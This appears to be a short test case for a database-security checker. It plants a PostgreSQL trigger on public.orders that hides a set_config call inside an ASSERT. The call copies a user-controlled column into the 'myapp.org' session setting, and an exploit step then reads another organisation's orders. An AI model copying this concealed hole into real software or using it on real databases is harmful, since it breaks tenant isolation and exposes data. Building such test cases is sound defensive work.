-- The setting stands where few look: in an assertion, with a name that a constant holds.
-- object: public.orders
-- base: integer
--- setup
CREATE FUNCTION looked() RETURNS trigger LANGUAGE plpgsql AS $$ BEGIN RETURN NEW; END $$;
CREATE TRIGGER looked AFTER UPDATE ON orders FOR EACH ROW EXECUTE FUNCTION looked();
--- leak
CREATE OR REPLACE FUNCTION looked() RETURNS trigger LANGUAGE plpgsql AS $$
DECLARE k constant text := 'myapp.org';
BEGIN ASSERT set_config(k, NEW.note, true) IS NOT NULL; RETURN NEW; END $$;
--- twin
SELECT 1;
--- exploit
UPDATE orders SET note = '{B}' WHERE id = 1;
SELECT * FROM orders WHERE org_id = {B};
